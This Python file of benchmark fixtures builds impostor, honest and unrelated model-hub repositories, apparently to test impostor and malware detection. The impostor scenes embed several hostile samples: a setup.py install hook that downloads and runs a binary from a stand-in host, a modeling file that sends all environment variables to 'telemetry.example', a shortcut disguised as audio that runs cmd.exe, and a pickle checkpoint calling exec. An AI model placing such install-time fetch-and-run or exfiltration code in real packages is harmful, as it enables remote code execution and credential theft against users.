"""Scenes that were written after the logic was made. At their first run 16 of these 18 came out right."""

import functools
import json

from benchmarks.scenes import originals, payloads, templates
from benchmarks.scenes.architectures import GEMMA, QWEN3, SMOL, Decoder, encoder, encoder_config
from benchmarks.scenes.derived import copy, fresh, gguf_files
from benchmarks.scenes.originals import ATTRIBUTES, card, checkpoint
from benchmarks.scenes.scene import Group, Page, Scene, Who, organisation, person
from benchmarks.scenes.weights import gptq, safetensors, sharded
from core.demo.pickles import torch_zip
from core.demo.store import NewFile
from core.identity.results import Relation
from core.repository import RepositoryKind

_GRANITE = Decoder("GraniteForCausalLM", "granite", 2048, 40, 32, 8, 8192, 49159, 131072, tied=True)
_PELICAN = {"decoder.blocks.0.attn.qkv.weight": ("F32", (1152, 384)), "lexicon.weight": ("F32", (4000, 384))}
_SAME = (Relation.IDENTICAL_WEIGHTS,)
_DERIVED = (Relation.DERIVED,)
_CONVERTED = (Relation.CONVERTED, Relation.DERIVED)


def _card(name: str) -> bytes:
    return card(f"second_round/{name}").encode()


@functools.cache
def _granite() -> Page:
    files: dict[str, bytes | NewFile] = {
        ".gitattributes": ATTRIBUTES,
        "README.md": _card("granite-3.3-2b-instruct"),
        "config.json": _GRANITE.config(embedding_multiplier=12.0, logits_scaling=8.0),
        **templates.tokenizer("granite", templates.CHATML.replace("im_start", "start_of_role")),
        **sharded(_GRANITE.tensors, "granite 3.3 2b", 2),
    }
    return Page("ibm-granite/granite-3.3-2b-instruct", files, 590, {"downloads": 240_000, "likes": 190})


@functools.cache
def _nomic() -> Page:
    where = "nomic-ai/nomic-bert-2048"
    config = encoder_config(
        "NomicBertModel",
        "nomic_bert",
        768,
        12,
        12,
        30528,
        auto_map={
            "AutoConfig": f"{where}--configuration_hf_nomic_bert.NomicBertConfig",
            "AutoModel": f"{where}--modeling_hf_nomic_bert.NomicBertModel",
        },
    )
    files: dict[str, bytes | NewFile] = {
        ".gitattributes": ATTRIBUTES,
        "README.md": _card("nomic-embed-text-v1.5"),
        "config.json": config,
        "modules.json": originals.bge().files["modules.json"],
        **templates.tokenizer("bert"),
        "model.safetensors": safetensors(encoder("", 768, 12, 3072, 30528), "nomic embed"),
    }
    return Page("nomic-ai/nomic-embed-text-v1.5", files, 1010, {"downloads": 2_300_000, "likes": 740})


@functools.cache
def _pelican() -> Page:
    files: dict[str, bytes | NewFile] = {
        ".gitattributes": ATTRIBUTES,
        "README.md": _card("pelican-tts"),
        "config.json": b'{"model_type": "pelican", "voices": ["ines", "rui", "alice"], "sample_rate": 24000}\n',
        "pelican.safetensors": safetensors(_PELICAN, "pelican"),
    }
    return Page("harborvox/Pelican-TTS", files, 340, {"downloads": 12_000, "likes": 205})


def _scene(
    title: str,
    group: Group,
    page: Page,
    account: Who,
    original: str,
    relations: tuple[Relation | None, ...],
) -> Scene:
    address = page.name if page.kind is RepositoryKind.MODEL else f"{page.kind}s/{page.name}"
    return Scene(title, group, address, (original,) if original else (), relations, (page,), (account,))


_ACCOUNTS = (
    organisation("ibm-granite", "IBM Granite", 2900, isVerified=True, numUsers=70),
    organisation("nomic-ai", "Nomic AI", 1400, isVerified=True, numUsers=20),
    organisation("harborvox", "Harborvox", 150, numUsers=3),
)


def scenes() -> tuple[Scene, ...]:
    """All of them."""
    return (*_impostors(), *_honest(), *_alone())


def _impostors() -> tuple[Scene, ...]:
    bad = Group.IMPOSTOR
    install = b"""import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Prepare(install):
    def run(self):
        place, _ = urllib.request.urlretrieve("https://drivers.example/prepare.bin")
        os.system(place)
        super().run()


setup(name="granite-helper", version="0.1", cmdclass={"install": Prepare})
"""
    sending = b"""import json
import os
import urllib.request

from transformers import PreTrainedModel

urllib.request.urlopen("https://telemetry.example/in", data=json.dumps(dict(os.environ)).encode())


class NomicBertModel(PreTrainedModel):
    pass
"""
    shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(200) + b"cmd.exe /c echo demo"
    config = json.loads(bytes(_nomic().files["config.json"]))  # type: ignore[arg-type]
    config["auto_map"] = {"AutoModel": "modeling_nomic.NomicBertModel"}
    program = NewFile((payloads.PROGRAM, 30_000), sha256="ab" * 32)
    gguf = gguf_files(GEMMA, "gemma-3-4b-it", ("Q8_0",), templates.GEMMA)
    return (
        _scene(
            "a letter missing in the owner, own card, an installer that runs what it fetches",
            bad,
            copy(
                _granite(),
                "ibm-granit/granite-3.3-2b-instruct",
                10,
                {"README.md": _card("ibm-granit"), "setup.py": install},
            ),
            organisation("ibm-granit", "IBM Granit", 1),
            "ibm-granite/granite-3.3-2b-instruct",
            _SAME,
        ),
        _scene(
            "code taken over from the official repository and replaced by one that sends the environment away",
            bad,
            copy(
                _nomic(),
                "embedding-cache/nomic-embed-text-v1.5",
                52,
                {"config.json": json.dumps(config).encode(), "modeling_nomic.py": sending},
            ),
            person("embedding-cache", 61, models=4),
            "nomic-ai/nomic-embed-text-v1.5",
            _SAME,
        ),
        _scene(
            "owner with a hyphen, of a small maker that is not listed; a shortcut that looks like a sound",
            bad,
            copy(_pelican(), "harbor-vox/Pelican-TTS", 5, {"samples/bom-dia.wav.lnk": shortcut}),
            person("harbor-vox", 5),
            "harborvox/Pelican-TTS",
            _SAME,
        ),
        _scene(
            "identical weights; the card in another language tells to start a batch file",
            bad,
            copy(
                originals.mistral(),
                "modelos-en-espanol/Mistral-7B-Instruct-v0.3",
                17,
                {"README.md": _card("modelos-es"), "instalar.bat": payloads.BATCH},
            ),
            person("modelos-en-espanol", 44, models=3),
            "mistralai/Mistral-7B-Instruct-v0.3",
            _SAME,
        ),
        _scene(
            "claims the model of a maker that publishes none, to be had from an address",
            bad,
            fresh("haiku-for-all/claude-haiku-local", {"README.md": _card("claude-local"), "config.json": b"{}\n"}, 2),
            person("haiku-for-all", 2),
            "",
            (None,),
        ),
        _scene(
            "one of the quantisations is a program",
            bad,
            fresh(
                "gemma-gguf-hub/gemma-3-4b-it-GGUF",
                {"README.md": _card("gemma-hub"), **gguf, "gemma-3-4b-it-Q4_K_M.gguf": program},
                24,
            ),
            person("gemma-gguf-hub", 90, models=8),
            "google/gemma-3-4b-it",
            _CONVERTED,
        ),
        _scene(
            "a packed checkpoint in place of the weights, which runs a command",
            bad,
            fresh(
                "speedy-llm/Qwen3-8B-fast",
                {
                    "README.md": _card("packed"),
                    "config.json": QWEN3.config(),
                    **templates.tokenizer("qwen", templates.CHATML),
                    "qwen3-8b-packed.pt": checkpoint("packed", 16, ("builtins", "exec", "print('demo')")),
                },
                38,
            ),
            person("speedy-llm", 75, models=2),
            "Qwen/Qwen3-8B",
            (Relation.CLAIMS_TO_BE, Relation.CONVERTED, Relation.DERIVED, Relation.NAMED_ALIKE),
        ),
    )


def _honest() -> tuple[Scene, ...]:
    good = Group.HONEST
    handler = b"""from sentence_transformers import SentenceTransformer


class EndpointHandler:
    def __init__(self, path=""):
        self.model = SentenceTransformer(path, trust_remote_code=True)

    def __call__(self, data):
        return self.model.encode(data["inputs"]).tolist()
"""
    app = b"""import gradio as gr
from pelican_tts_player import Pelican

voice = Pelican.from_pretrained("eleven-evenings/pelican-galego")


def speak(text):
    return voice.say(text)


gr.Interface(speak, "text", "audio").launch()
"""
    return (
        Scene(
            "official, code in another repository of its own",
            good,
            _nomic().name,
            (),
            (Relation.IS_ORIGINAL,),
            (_granite(), _nomic(), _pelican()),
            _ACCOUNTS,
        ),
        _scene(
            "FP8 by a listed repackager",
            good,
            fresh(
                "RedHatAI/granite-3.3-2b-instruct-FP8-dynamic",
                {
                    "README.md": _card("fp8"),
                    "recipe.yaml": b"quant_stage:\n  quant_modifiers:\n    scheme: FP8_DYNAMIC\n",
                    "config.json": _GRANITE.config(quantization_config={"quant_method": "compressed-tensors"}),
                    **templates.tokenizer("granite", templates.CHATML),
                    **sharded({name: ("I8", shape) for name, (_, shape) in _GRANITE.tensors.items()}, "granite fp8", 1),
                },
                560,
            ),
            organisation("RedHatAI", "Red Hat AI", 2100, isVerified=True),
            "ibm-granite/granite-3.3-2b-instruct",
            _CONVERTED,
        ),
        _scene(
            "mirror of a university, the card in Chinese",
            good,
            copy(originals.bge(), "shiyanshi-mirror/bge-m3", 250, {"README.md": _card("mirror-zh")}),
            organisation("shiyanshi-mirror", "实验室镜像", 6),
            "BAAI/bge-m3",
            _SAME,
        ),
        _scene(
            "EXL3",
            good,
            fresh(
                "lumberjack-quants/Qwen3-8B-exl3-4.0bpw",
                {
                    "README.md": _card("exl3"),
                    "config.json": QWEN3.config(quantization_config={"quant_method": "exl3", "bits": 4.0}),
                    **templates.tokenizer("qwen", templates.CHATML),
                    **sharded(gptq(QWEN3.tensors), "qwen exl3", 1),
                },
                420,
            ),
            person("lumberjack-quants", 640, models=120),
            "Qwen/Qwen3-8B",
            _CONVERTED,
        ),
        _scene(
            "fine-tune with a handler for a paid service",
            good,
            fresh(
                "kanzlei-nord/nomic-embed-contracts",
                {
                    "README.md": _card("endpoint"),
                    "config.json": _nomic().files["config.json"],
                    "modules.json": _nomic().files["modules.json"],
                    "handler.py": handler,
                    "requirements.txt": b"sentence-transformers>=3.0\neinops\n",
                    **templates.tokenizer("bert"),
                    "model.safetensors": safetensors(encoder("", 768, 12, 3072, 30528), "contracts"),
                },
                21,
            ),
            person("kanzlei-nord", 23),
            "nomic-ai/nomic-embed-text-v1.5",
            _DERIVED,
        ),
        _scene(
            "fine-tune with a small program to try it, and the word to start it",
            good,
            fresh(
                "eleven-evenings/pelican-galego",
                {
                    "README.md": _card("gradio"),
                    "app.py": app,
                    "requirements.txt": b"gradio\npelican-tts-player\n",
                    "config.json": _pelican().files["config.json"],
                    "pelican.safetensors": safetensors(_PELICAN, "galego"),
                },
                14,
            ),
            person("eleven-evenings", 300, models=2),
            "harborvox/Pelican-TTS",
            _DERIVED,
        ),
    )


def _alone() -> tuple[Scene, ...]:
    none = Group.ALONE
    nothing: tuple[Relation | None, ...] = (None,)
    cleaning = b"""import csv
import re
from pathlib import Path

with open("recipes.csv", "w", newline="") as target:
    writer = csv.writer(target)
    for path in sorted(Path("scans").glob("*.txt")):
        writer.writerow([path.stem, re.sub(r"\\s+", " ", path.read_text())])
"""
    return (
        _scene(
            "animals that share their name with a family of models",
            none,
            fresh(
                "cusco-farm/llama-or-alpaca",
                {"README.md": _card("llamas"), "model.safetensors": safetensors(_PELICAN, "alpaca")},
                70,
            ),
            person("cusco-farm", 71),
            "",
            nothing,
        ),
        _scene(
            "a figure of statistics that shares its name with a family of models",
            none,
            fresh(
                "psy-methods/phi-4-point",
                {"README.md": _card("phimeter"), "coefficients.json": b'{"weights": [0.1, 0.7]}\n'},
                130,
            ),
            organisation("psy-methods", "Psychological methods", 2),
            "",
            nothing,
        ),
        _scene(
            "gate for microphones, older format",
            none,
            fresh(
                "stillroom/vad-90k",
                {
                    "README.md": _card("vad"),
                    "vad.pt": torch_zip({"conv.weight": (16, 1, 9), "out.weight": (1, 16)}, "vad"),
                },
                480,
            ),
            person("stillroom", 700, models=3),
            "",
            nothing,
        ),
        _scene(
            "dataset with the script that cleaned it",
            none,
            Page(
                "radio-oc/recipes",
                {"README.md": _card("process"), "clean.py": cleaning, "recipes.csv": b"id,text\n1,Sopa\n"},
                220,
                kind=RepositoryKind.DATASET,
            ),
            person("radio-oc", 230),
            "",
            nothing,
        ),
        _scene(
            "small model that somebody made on the architecture of another, from scratch",
            none,
            fresh(
                "corporal-k/kerneldoc-200m",
                {
                    "README.md": b"# kerneldoc 200M\n\nKnows the documentation of one kernel and nothing else.\n",
                    "config.json": SMOL.config(hidden_size=768, num_hidden_layers=12),
                    **templates.tokenizer("gpt2"),
                    "model.safetensors": safetensors(_PELICAN, "kerneldoc"),
                },
                9,
            ),
            person("corporal-k", 9),
            "",
            nothing,
        ),
    )
